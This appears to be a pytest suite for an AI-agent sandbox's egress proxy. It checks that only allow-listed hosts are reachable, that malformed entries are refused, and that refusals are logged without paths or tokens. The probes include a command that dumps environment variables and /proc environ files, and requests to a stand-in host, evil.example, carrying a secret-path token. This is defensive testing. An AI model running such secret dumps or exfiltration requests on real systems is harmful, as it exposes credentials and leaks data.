"""Egress from the `run` sandbox: only allow_hosts, through AIOS's proxy; nothing without them.

Real servers on the host's 127.0.0.1 stand in for package registries. The probe tests run as
AIOS's uid (root here and in CI) and as an unprivileged user, like those of test_sandbox.py.
"""

from __future__ import annotations

import http.server
import ssl
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from structlog.testing import capture_logs

from bot.agents.bwrap import Isolation
from bot.agents.egress import EgressError, parse_allow_hosts
from bot.agents.sandbox import Sandbox
from tests.test_sandbox import (  # noqa: F401 - fixtures
    SECRETS,
    isolation,
    run_probe,
    sandbox,
    unprivileged_user,
    workspace,
)

BODY = "hello from the host's loopback"


class Server:
    """An HTTP(S) server on the host's 127.0.0.1 that records every request line it gets."""

    def __init__(self, tls: ssl.SSLContext | None = None, host: str = "127.0.0.1") -> None:
        seen = self.seen = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(f"{self.requestline} | connection={self.headers['Connection']}")
                body = BODY.encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.httpd = http.server.ThreadingHTTPServer((host, 0), Handler)
        if tls is not None:
            self.httpd.socket = tls.wrap_socket(self.httpd.socket, server_side=True)
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join()


@pytest.fixture
def servers(tmp_path: Path) -> Iterator[dict[str, Server]]:
    """`allowed` and `forbidden` plain HTTP, `tls` with a self-signed certificate."""
    key, cert = tmp_path / "key.pem", tmp_path / "cert.pem"
    subprocess.run(
        [
            *("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1"),
            *("-subj", "/CN=127.0.0.1", "-keyout", str(key), "-out", str(cert)),
        ],
        check=True,
        capture_output=True,
    )
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(cert, key)
    made = {
        "allowed": Server(),
        "forbidden": Server(),
        "tls": Server(tls),
        # Another loopback address: the proxy must connect where the request says.
        "elsewhere": Server(host="127.0.0.2"),
    }
    yield made
    for server in made.values():
        server.close()


def fetch(url: str, *, verify: bool = True) -> str:
    """A command that fetches `url` with Python's urllib, which honours HTTP(S)_PROXY."""
    context = "" if verify else ", context=ssl._create_unverified_context()"
    script = f"""
import ssl, urllib.request, urllib.error
try:
    print("GOT", urllib.request.urlopen("{url}", timeout=20{context}).read().decode())
except urllib.error.HTTPError as e:
    print("HTTP", e.code, e.read().decode())
except OSError as e:
    print("FAILED", e)
"""
    return _python(script)


def connect(target: str) -> str:
    """A command that asks the proxy for a CONNECT tunnel by hand and prints its answer."""
    script = f"""
import socket
s = socket.create_connection(("127.0.0.1", 3128), 20)
s.sendall(b"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n")
print("ANSWER", s.recv(4096).decode())
"""
    return _python(script)


def _python(script: str) -> str:
    return f"python3 - <<'EOF'\n{script}\nEOF"


def probed(*commands: str) -> list[str]:
    """Commands for the probe, which formats them with str.format: braces are doubled."""
    return [c.replace("{", "{{").replace("}", "}}") for c in commands]


SECRETS_DUMP = (
    "env; tr '\\0' '\\n' < /proc/self/environ; "
    "for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' ' ' < $f; echo; done"
)


def test_only_allowed_hosts_are_reached_through_the_proxy(
    run_probe: Any,  # noqa: F811
    servers: dict[str, Server],
) -> None:
    allowed, forbidden, tls = servers["allowed"], servers["forbidden"], servers["tls"]
    elsewhere = servers["elsewhere"]
    report = run_probe(
        probed(
            fetch(f"http://127.0.0.2:{elsewhere.port}/other"),
            fetch(f"http://127.0.0.1:{allowed.port}/simple/pkg/?q=1"),
            fetch(f"http://127.0.0.1:{forbidden.port}/x"),
            fetch(f"http://127.0.0.1:{forbidden.port}/again"),
            connect("evil.example:443"),
            fetch(f"https://127.0.0.1:{tls.port}/tunnelled", verify=False),
            SECRETS_DUMP,
        ),
        allow_hosts=[
            f"127.0.0.1:{allowed.port}",
            f"127.0.0.1:{tls.port}",
            f"127.0.0.2:{elsewhere.port}",
        ],
    )
    other, ok, refused, again, evil, https, dump = (r["output"] for r in report["results"])
    assert f"GOT {BODY}" in other and elsewhere.seen == ["GET /other HTTP/1.1 | connection=close"]
    assert f"GOT {BODY}" in ok
    # Forwarded in origin form, one request per connection.
    assert allowed.seen == ["GET /simple/pkg/?q=1 HTTP/1.1 | connection=close"]
    reason = f"127.0.0.1:{forbidden.port} is not in this sandbox's allow_hosts"
    assert "HTTP 403" in refused and reason in refused and "HTTP 403" in again
    assert forbidden.seen == []  # the proxy never connected to it
    assert "ANSWER HTTP/1.1 403 Forbidden" in evil
    assert "evil.example:443 is not in this sandbox's allow_hosts" in evil
    assert f"GOT {BODY}" in https and tls.seen == ["GET /tunnelled HTTP/1.1 | connection=close"]
    # Each refused host once, host and port only (not the path).
    assert report["egress_refused"] == [f"127.0.0.1:{forbidden.port}", "evil.example:443"]
    assert "HTTP_PROXY=http://127.0.0.1:3128" in dump
    for name, value in SECRETS.items():
        assert value not in dump and f"{name}=" not in dump
    assert all(r["survivors"] == [] for r in report["results"])  # the relay died too


def test_without_allow_hosts_there_is_no_network_and_no_proxy(
    run_probe: Any,  # noqa: F811
    servers: dict[str, Server],
) -> None:
    allowed = servers["allowed"]
    report = run_probe(
        probed(
            fetch(f"http://127.0.0.1:{allowed.port}/x"),
            "env | grep -ci proxy; ls /run/aios-egress.sock; "
            "for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < $f; echo; done "
            "| grep -c '^/usr/bin/python3 '",
        )
    )
    fetched, looked = (r["output"] for r in report["results"])
    assert "FAILED" in fetched and "Connection refused" in fetched
    assert allowed.seen == []
    # No proxy variable, no socket, no relay process.
    assert looked.split()[0] == "0" and looked.split()[-1] == "0"
    assert "No such file or directory" in looked
    assert report["egress_refused"] == []


@pytest.mark.parametrize(
    ("entries", "pairs"),
    [
        (["pypi.org"], {("pypi.org", 443), ("pypi.org", 80)}),
        (
            ["PyPI.org.", "127.0.0.1:8080"],
            {("pypi.org", 443), ("pypi.org", 80), ("127.0.0.1", 8080)},
        ),
        (["registry.npmjs.org:443"], {("registry.npmjs.org", 443)}),
        ([], set()),
    ],
)
def test_allow_hosts_entries_are_host_names_or_ipv4_with_an_optional_port(
    entries: list[str], pairs: set[tuple[str, int]]
) -> None:
    assert parse_allow_hosts(entries).pairs == pairs


@pytest.mark.parametrize(
    "entry",
    [
        "https://pypi.org",
        "pypi.org/simple",
        "*.pythonhosted.org",
        "::1",
        "[::1]:80",
        "1.2.3",
        "pypi.org:0",
        "pypi.org:70000",
        "pypi.org:http",
        "-bad.example",
        "",
        "a b",
    ],
)
async def test_malformed_allow_hosts_entries_are_refused_before_anything_runs(
    entry: str,
    workspace: Path,  # noqa: F811
    isolation: Isolation,  # noqa: F811
) -> None:
    with pytest.raises(EgressError, match="not a host name or IPv4 address"):
        parse_allow_hosts([entry])
    box = sandbox(workspace, isolation)
    with pytest.raises(EgressError):
        await box.run("touch ran", allow_hosts=["pypi.org", entry])
    box.close()
    assert not (workspace / "ran").exists()


async def test_a_refused_host_is_logged_once_by_host_and_port(
    workspace: Path,  # noqa: F811
    isolation: Isolation,  # noqa: F811
) -> None:
    box: Sandbox = sandbox(workspace, isolation, timeout_s=60.0)
    command = "\n".join([connect("evil.example:443")] * 2)
    with capture_logs() as logs:
        first = await box.run(command, allow_hosts=["pypi.org"])
        second = await box.run(
            fetch("http://evil.example/secret-path?token=x"),
            allow_hosts=["pypi.org"],
        )
    box.close()
    assert first.output.count("403 Forbidden") == 2 and "HTTP 403" in second.output
    refusals = [e for e in logs if e["event"] == "sandbox.egress_refused"]
    assert [e["host"] for e in refusals] == ["evil.example:443", "evil.example:80"]
    assert "secret-path" not in repr(logs) and "token" not in repr(logs)
    assert box.egress_refused == ["evil.example:443", "evil.example:80"]
